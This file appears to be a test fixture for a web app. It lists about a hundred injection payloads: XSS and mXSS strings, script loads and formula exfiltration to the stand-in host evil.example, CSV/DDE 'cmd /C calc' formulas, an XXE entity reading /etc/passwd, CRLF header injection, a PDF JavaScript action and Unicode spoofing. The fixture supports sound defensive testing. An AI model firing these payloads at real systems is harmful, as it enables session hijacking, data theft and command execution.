/**
 * Texts that a reader other than theirs takes for more than text: a browser for a script, a spreadsheet for
 * a formula, a mail server for a header. Wherever a person's text is shown each of them has to arrive as the
 * text that it is (payloads.test.ts, and in a browser apps/web/e2e/payloads.test.ts). What runs calls
 * `canary` or opens a dialog, or asks `evil.example`.
 */
export const payloads: Record<string, string> = {
  // HTML: elements
  script: '<script>canary(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script in script': '<scr<script>ipt>canary(1)</scr</script>ipt>',
  'script of a module': '<script type=module>import("//evil.example/x.js")</script>',
  'image that fails': '<img src=x onerror=canary(1)>',
  'image with slashes': '<img/src=x/onerror=canary(1)//',
  'image of elsewhere': '<img src="https://evil.example/pixel.png">',
  'image with candidates': '<img srcset="//evil.example/x.png 2x">',
  'svg that loads': '<svg/onload=canary(1)>',
  'svg with script': '<svg><script>canary(1)</script></svg>',
  'svg that animates': '<svg><animate onbegin=canary(1) attributeName=x dur=1s>',
  'svg with use': '<svg><use href="data:image/svg+xml,<svg id=x onload=canary(1)>#x"></use></svg>',
  'svg with a foreign object': '<svg><foreignObject><iframe srcdoc="<script>canary(1)</script>">',
  'math with a link': '<math><maction xlink:href="javascript:canary(1)">x</maction></math>',
  'frame with a page': '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  'frame with a script': '<iframe src="javascript:parent.canary(1)"></iframe>',
  object: '<object data="data:text/html,<script>canary(1)</script>"></object>',
  embed: '<embed src="//evil.example/x.swf" allowscriptaccess=always>',
  base: '<base href="https://evil.example/">',
  'meta that leaves': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'style sheet': '<link rel=stylesheet href="//evil.example/x.css">',
  'prefetched address': '<link rel=prefetch href="//evil.example/x">',
  'details that open': '<details open ontoggle=canary(1)>x</details>',
  'field that takes the focus': '<input autofocus onfocus=canary(1)>',
  'video without a source': '<video><source onerror=canary(1)></video>',
  'form to elsewhere': '<form action="https://evil.example/"><button>Pay</button></form>',
  'button of another form': '<button formaction="javascript:canary(1)">x</button>',
  template: '<template shadowrootmode=open><img src=x onerror=canary(1)></template>',
  comment: '<!--><img src=x onerror=canary(1)>-->',
  'comment that closes': '--><img src=x onerror=canary(1)><!--',
  'title that ends': '</title><script>canary(1)</script>',
  'text area that ends': '</textarea><script>canary(1)</script>',
  'noscript that ends': '</noscript><img src=x onerror=canary(1)>',
  'page that ends': '</p></main></body></html><script>canary(1)</script>',
  // HTML: attributes
  'double quotes that end': '"><script>canary(1)</script>',
  'single quotes that end': "'><script>canary(1)</script>",
  'an attribute more': '" onmouseover="canary(1)" autofocus onfocus="canary(1)" x="',
  'an attribute in single quotes': "' onfocus='canary(1)' autofocus x='",
  'back quotes': '`onmouseover=canary(1)`',
  'entities that are decoded twice': '&lt;script&gt;canary(1)&lt;/script&gt;',
  'entities without an end': '&lt;img src=x onerror=canary(1)&gt',
  'an ampersand': 'Chai &amp; &copy; & Pakora &#x3c;b&#x3e;',
  // Mutation: text that is harmless when it is read once, and not when it is read again
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=canary(1)>">',
  'mutation by style': '<svg></p><style><a id="</style><img src=1 onerror=canary(1)>">',
  'mutation by math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary(1)&gt;">',
  'mutation by form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=canary(1)>">',
  // Scripts and data within a page
  'data that ends its script': '</script><script>canary(1)</script>',
  'data with a comment': '<!--<script>',
  'JSON that ends': '"}],"x":[{"y":"</script><svg onload=canary(1)>',
  'JavaScript that ends': "';canary(1);//",
  'a template literal': `\${canary(1)}`,
  'line separators': 'a\u2028canary(1)\u2029b',
  'a prototype': '{"__proto__":{"canary":1}}',
  // Addresses
  'javascript:': 'javascript:canary(1)',
  'javascript: with a tab': 'java\tscript:canary(1)',
  'javascript: with a comment': 'javascript://%0acanary(1)',
  'data:': 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDEpPC9zY3JpcHQ+',
  'vbscript:': 'vbscript:msgbox(1)',
  'another host': '//evil.example/%2e%2e',
  'another host by backslashes': '\\\\evil.example\\x',
  // CSS
  'style that ends': '</style><script>canary(1)</script>',
  'a rule': '}*{background:url(https://evil.example/x)}{',
  'a style of an element': 'red;background:url(javascript:canary(1))',
  // Templates and messages
  'an ICU argument': '{name} {0} {constructor}',
  'an ICU plural': "{n, plural, one {# canary} other {'{'}}",
  'elements of a message': '<0>canary</0></1><2/>',
  'other templates': '{{7*7}} <%= 7*7 %> #{7*7} *{7*7}',
  'signs of a format': "%s %d %o %c %n $& $1 $` $'",
  // Lines that begin another
  'a header of a mail': 'Tea\r\nBcc: everybody@evil.example',
  'a header by a single break': 'Tea\nContent-Type: text/html\n\n<script>canary(1)</script>',
  'an end of a mail': 'Tea\r\n.\r\nMAIL FROM:<x@evil.example>',
  'a header that is encoded': '=?utf-8?Q?=0D=0ABcc:_x@evil.example?=',
  'an address of a mail': 'Meera <x@evil.example>, "y" <y@evil.example>',
  'a file name': 'a"; filename="evil.html',
  'a line of a calendar': 'Tea\r\nATTACH:https://evil.example/x\r\nSUMMARY:Other',
  'an entry of a calendar': 'Tea\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil',
  'signs of a calendar': 'a;b,c\\n\\d:"e"',
  'a line of a log': 'x\r\n{"level":30,"msg":"request","route":"forged"}',
  // Spreadsheets
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Tea")',
  'a formula with plus': "+1+cmd|' /C calc'!A0",
  'a formula with minus': "-2+3+cmd|' /C calc'!A0",
  'a formula with at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula after a tab': '\t=1+1',
  'a formula after a return': '\r=1+1',
  'a formula after a break': '\n=1+1',
  'a formula of full width': '\uff1d1+1',
  'cells and rows': '","x"\r\n"y","=1+1"',
  // XML
  'an end of CDATA': ']]><script>canary(1)</script>',
  'an entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'an instruction': '<?xml-stylesheet href="//evil.example/x.xsl"?>',
  'an item of a feed': '</title></item><item><link>https://evil.example/</link>',
  // PDF
  'an end of a PDF string': ') Tj ET (evil',
  'a PDF action': ')>>/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>(',
  // Signs that are not what they seem
  'a turned name': 'invoice\u202efdp.exe',
  'an isolated turn': '\u2067evil\u2069\u2066',
  'no width': 'ad\u200bmin\u2060\ufeff',
  'a null': 'Tea\0<script>canary(1)</script>',
  'half a sign': 'Tea\ud83d<script>canary(1)</script>',
  'controls of a terminal': 'Tea\u001b[2J\u001b]0;evil\u0007\b\b',
};

/** Leaves out those that no column of the database can hold. */
export const storedPayloads = Object.values(payloads).filter(
  (text) => !text.includes('\0') && text.isWellFormed(),
);
